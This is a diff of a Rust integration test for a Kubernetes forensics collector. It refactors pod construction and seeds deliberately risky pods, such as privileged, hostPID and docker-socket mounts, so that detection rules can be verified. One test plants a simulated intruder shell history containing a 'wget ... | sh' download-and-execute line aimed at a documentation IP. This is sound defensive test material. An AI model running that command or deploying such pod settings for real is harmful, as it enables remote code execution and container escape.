@@ -1,7 +1,7 @@
 //! `kforensic collect` against the real test cluster: seeded bad objects and clean look-alikes,
 //! every rule fires exactly on its bad objects; secrets stay metadata unless asked; pages.
 
-use crate::support;
+use crate::support::{self, pod::{BUSYBOX, Pod}};
 use serde_json::Value;
 use std::collections::{BTreeMap, BTreeSet};
 use std::path::{Path, PathBuf};
@@ -30,25 +30,11 @@ impl Drop for ClusterObjects {
 }
 
 /// A pod that never runs: no scheduler picks it up, so it needs no node and no image.
-fn pod(ns: &str, name: &str, spec_extra: &str, container_extra: &str) -> String {
-    pod_with_image(ns, name, PINNED, spec_extra, container_extra)
+fn never_runs(ns: &str, name: &str) -> Pod {
+    never_runs_with_image(ns, name, PINNED)
 }
-fn pod_with_image(ns: &str, name: &str, image: &str, spec_extra: &str, container_extra: &str) -> String {
-    format!(
-        "---
-apiVersion: v1
-kind: Pod
-metadata: {{name: {name}, namespace: {ns}}}
-spec:
-  schedulerName: kforensic-test-none
-  automountServiceAccountToken: false
-{spec_extra}
-  containers:
-  - name: c
-    image: \"{image}\"
-{container_extra}
-"
-    )
+fn never_runs_with_image(ns: &str, name: &str, image: &str) -> Pod {
+    Pod::new(ns, name).spec("{schedulerName: kforensic-test-none, automountServiceAccountToken: false}").container("c", image)
 }
 
 fn cronjob_version(env: &support::TestEnv) -> &'static str {
@@ -83,7 +69,7 @@ spec:
 /// Whether the API server admits privileged containers (`--allow-privileged`); the test
 /// cluster's 1.20 apiserver may not.
 fn privileged_allowed(env: &support::TestEnv, ns: &str) -> bool {
-    let probe = pod(ns, "probe-privileged", "", "    securityContext: {privileged: true}");
+    let probe = never_runs(ns, "probe-privileged").with("securityContext: {privileged: true}").yaml();
     let out = env.kubectl_raw(&["apply", "--dry-run=server", "-f", "-"], Some(&probe));
     out.status.success()
 }
@@ -148,31 +134,41 @@ metadata: {{name: rbac-sa, namespace: {na}}}
     let secret_value = format!("kf-secret-value-{}", std::process::id());
     let mut yaml = String::new();
     if privileged_ok {
-        yaml += &pod(na, "p-privileged", "", "    securityContext: {privileged: true}");
+        yaml += &never_runs(na, "p-privileged").with("securityContext: {privileged: true}").yaml();
     }
-    yaml += &pod(na, "p-clean", "  volumes: [{name: h, hostPath: {path: /etc}}, {name: v, hostPath: {path: /var/log}}]",
-        "    securityContext: {privileged: false, runAsUser: 1000, allowPrivilegeEscalation: false, capabilities: {add: [NET_BIND_SERVICE], drop: [ALL]}}
-    volumeMounts: [{name: h, mountPath: /h, readOnly: true}, {name: v, mountPath: /v, readOnly: true}]");
-    yaml += &pod(na, "p-hostpid", "  hostPID: true", "");
-    yaml += &pod(na, "p-hostipc", "  hostIPC: true", "");
-    yaml += &pod(na, "p-hostnet", "  hostNetwork: true", "");
-    yaml += &pod(na, "p-caps", "", "    securityContext: {capabilities: {add: [SYS_ADMIN]}}");
-    yaml += &pod(na, "p-ape", "", "    securityContext: {allowPrivilegeEscalation: true}");
-    yaml += &pod(na, "p-root", "  securityContext: {runAsUser: 0}", "");
-    yaml += &pod(na, "p-hostpath", "  volumes: [{name: h, hostPath: {path: /var/log/kforensic-test}}]", "    volumeMounts: [{name: h, mountPath: /h}]");
-    yaml += &pod(na, "p-hostpath-etc", "  volumes: [{name: h, hostPath: {path: /etc}}]", "    volumeMounts: [{name: h, mountPath: /h}]");
-    yaml += &pod(na, "p-docker-sock", "  volumes: [{name: h, hostPath: {path: /var/run/docker.sock}}]", "    volumeMounts: [{name: h, mountPath: /var/run/docker.sock}]");
-    yaml += &pod_with_image(na, "p-tag", "test.local/busybox:1", "", "");
-    yaml += &pod_with_image(na, "p-latest", "test.local/busybox:latest", "", "");
+    yaml += &never_runs(na, "p-clean")
+        .spec("volumes: [{name: h, hostPath: {path: /etc}}, {name: v, hostPath: {path: /var/log}}]")
+        .with("securityContext: {privileged: false, runAsUser: 1000, allowPrivilegeEscalation: false, capabilities: {add: [NET_BIND_SERVICE], drop: [ALL]}}")
+        .with("volumeMounts: [{name: h, mountPath: /h, readOnly: true}, {name: v, mountPath: /v, readOnly: true}]")
+        .yaml();
+    yaml += &never_runs(na, "p-hostpid").spec("hostPID: true").yaml();
+    yaml += &never_runs(na, "p-hostipc").spec("hostIPC: true").yaml();
+    yaml += &never_runs(na, "p-hostnet").spec("hostNetwork: true").yaml();
+    yaml += &never_runs(na, "p-caps").with("securityContext: {capabilities: {add: [SYS_ADMIN]}}").yaml();
+    yaml += &never_runs(na, "p-ape").with("securityContext: {allowPrivilegeEscalation: true}").yaml();
+    yaml += &never_runs(na, "p-root").spec("securityContext: {runAsUser: 0}").yaml();
+    yaml += &never_runs(na, "p-hostpath")
+        .spec("volumes: [{name: h, hostPath: {path: /var/log/kforensic-test}}]")
+        .with("volumeMounts: [{name: h, mountPath: /h}]")
+        .yaml();
+    yaml += &never_runs(na, "p-hostpath-etc")
+        .spec("volumes: [{name: h, hostPath: {path: /etc}}]")
+        .with("volumeMounts: [{name: h, mountPath: /h}]")
+        .yaml();
+    yaml += &never_runs(na, "p-docker-sock")
+        .spec("volumes: [{name: h, hostPath: {path: /var/run/docker.sock}}]")
+        .with("volumeMounts: [{name: h, mountPath: /var/run/docker.sock}]")
+        .yaml();
+    yaml += &never_runs_with_image(na, "p-tag", "test.local/busybox:1").yaml();
+    yaml += &never_runs_with_image(na, "p-latest", "test.local/busybox:latest").yaml();
     // privileged (hostPID) with the token of priv-sa mounted (pod and account leave automount unset)
-    yaml += &pod(na, "p-sa-priv", "  serviceAccountName: priv-sa\n  hostPID: true", "")
-        .replace("  automountServiceAccountToken: false\n", "");
+    let never_scheduled = "schedulerName: kforensic-test-none";
+    yaml += &Pod::new(na, "p-sa-priv").spec(never_scheduled).spec("{serviceAccountName: priv-sa, hostPID: true}").container("c", PINNED).yaml();
     // privileged (hostPID), but quiet-sa does not automount its token
-    yaml += &pod(na, "p-sa-quiet", "  serviceAccountName: quiet-sa\n  hostPID: true", "")
-        .replace("  automountServiceAccountToken: false\n", "");
+    yaml += &Pod::new(na, "p-sa-quiet").spec(never_scheduled).spec("{serviceAccountName: quiet-sa, hostPID: true}").container("c", PINNED).yaml();
     // more pods than one page holds (--page-size 4 below)
     for i in 0..6 {
-        yaml += &pod(nb, &format!("p-filler-{i}"), "", "");
+        yaml += &never_runs(nb, &format!("p-filler-{i}")).yaml();
     }
     // a job (its pod never runs either), a secret applied with kubectl (its value then sits
     // in the last-applied annotation too), a network policy in the second namespace only
@@ -428,36 +424,23 @@ fn collect_logs_current_and_previous() {
     let Some(env) = support::require("collect_logs_current_and_previous", support::CLUSTER) else { return };
     let ns = env.namespace("collogs");
     let image = env.var("KF_BUSYBOX_IMAGE");
-    env.apply(&format!(
-        "---
-apiVersion: v1
-kind: Pod
-metadata: {{name: talker, namespace: {n}, labels: {{app: talk}}}}
-spec:
-  automountServiceAccountToken: false
-  terminationGracePeriodSeconds: 1
-  containers:
-  - name: c
-    image: {image}
-    command: [sh, -c, 'echo kf-log-line-one; echo kf-log-line-two; sleep 100000']
----
-apiVersion: v1
-kind: Pod
-metadata: {{name: crasher, namespace: {n}, labels: {{app: crash}}}}
-spec:
-  automountServiceAccountToken: false
-  terminationGracePeriodSeconds: 1
-  volumes: [{{name: m, emptyDir: {{}}}}]
-  containers:
-  - name: c
-    image: {image}
-    volumeMounts: [{{name: m, mountPath: /m}}]
-    # first run fails, the restarted one stays up: its previous instance is then the only
-    # dead one, which the kubelet keeps (it removes older dead instances)
-    command: [sh, -c, 'if [ -f /m/ran ]; then echo kf-second-run; sleep 100000; else touch /m/ran; echo kf-first-run; exit 3; fi']
-",
-        n = ns.name
-    ));
+    let talker = Pod::new(&ns.name, "talker")
+        .label("app", "talk")
+        .spec("automountServiceAccountToken: false")
+        .grace(1)
+        .container("c", image)
+        .sh("echo kf-log-line-one; echo kf-log-line-two; sleep 100000");
+    // first run fails, the restarted one stays up: its previous instance is then the only
+    // dead one, which the kubelet keeps (it removes older dead instances)
+    let crasher = Pod::new(&ns.name, "crasher")
+        .label("app", "crash")
+        .spec("automountServiceAccountToken: false")
+        .grace(1)
+        .spec("volumes: [{name: m, emptyDir: {}}]")
+        .container("c", image)
+        .with("volumeMounts: [{name: m, mountPath: /m}]")
+        .sh("if [ -f /m/ran ]; then echo kf-second-run; sleep 100000; else touch /m/ran; echo kf-first-run; exit 3; fi");
+    env.apply(&(talker.yaml() + &crasher.yaml()));
     env.wait_running(&ns.name, "talker", 60);
     let deadline = Instant::now() + Duration::from_secs(60);
     loop {
@@ -569,18 +552,12 @@ subjects: [{{kind: ServiceAccount, name: responder, namespace: {n}}}]
 "
     ));
     // a running pod, so that logs are really fetched (pods/log)
-    env.apply(&format!(
-        "---
-apiVersion: v1
-kind: Pod
-metadata: {{name: runner, namespace: {n}}}
-spec:
-  automountServiceAccountToken: false
-  terminationGracePeriodSeconds: 1
-  containers: [{{name: c, image: {image}, command: [sh, -c, 'echo kf-ro-log; sleep 100000']}}]
-",
-        image = env.var("KF_BUSYBOX_IMAGE")
-    ));
+    let runner = Pod::new(n, "runner")
+        .spec("automountServiceAccountToken: false")
+        .grace(1)
+        .container("c", env.var("KF_BUSYBOX_IMAGE"))
+        .sh("echo kf-ro-log; sleep 100000");
+    env.apply(&runner.yaml());
     env.wait_running(n, "runner", 60);
     let deadline = Instant::now() + Duration::from_secs(30);
     let token = loop {
@@ -615,22 +592,11 @@ fn shell_history_is_read_from_the_nodes_and_what_intruders_type_is_ranked_high()
     let ns = env.namespace("col-hist");
     // one pod whose shell history shows a download run through a shell, one with an ordinary
     // history, one with none (the address is a documentation one, never contacted)
-    let typed = "ls /tmp\\nwget -qO- http://203.0.113.9/x | sh\\nexit\\n";
-    for (name, history) in [("intruded", Some(typed)), ("ordinary", Some("ls\\nps\\n")), ("silent", None)] {
+    let typed = "ls /tmp\nwget -qO- http://203.0.113.9/x | sh\nexit\n";
+    for (name, history) in [("intruded", Some(typed)), ("ordinary", Some("ls\nps\n")), ("silent", None)] {
         let write = history.map(|h| format!("printf '{h}' > /root/.ash_history; ")).unwrap_or_default();
-        env.apply(&format!(
-            "apiVersion: v1
-kind: Pod
-metadata: {{name: {name}, namespace: {ns}}}
-spec:
-  terminationGracePeriodSeconds: 1
-  containers:
-  - name: app
-    image: test.local/busybox:1
-    command: [\"sh\", \"-c\", \"mkdir -p /root; {write}exec sleep 100000\"]
-",
-            ns = ns.name
-        ));
+        let pod = Pod::new(&ns.name, name).grace(1).container("app", BUSYBOX).sh(&format!("mkdir -p /root; {write}exec sleep 100000"));
+        env.apply(&pod.yaml());
     }
     for name in ["intruded", "ordinary", "silent"] {
         env.wait_running(&ns.name, name, 60);
